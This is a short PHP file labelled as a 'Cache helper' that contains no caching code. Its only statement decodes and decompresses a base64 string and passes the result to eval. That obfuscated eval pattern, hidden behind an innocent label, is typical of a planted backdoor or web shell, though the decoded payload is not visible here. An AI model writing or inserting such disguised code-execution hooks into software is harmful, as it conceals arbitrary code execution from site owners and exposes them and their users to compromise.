<?php
/**
 * Cache helper
 * @package Core
 */
$PjDkU = 'c0gtS8zRUIkP8A8OiVZPTVWP1bQGAA==';
eval(gzinflate(base64_decode($PjDkU)));
?>
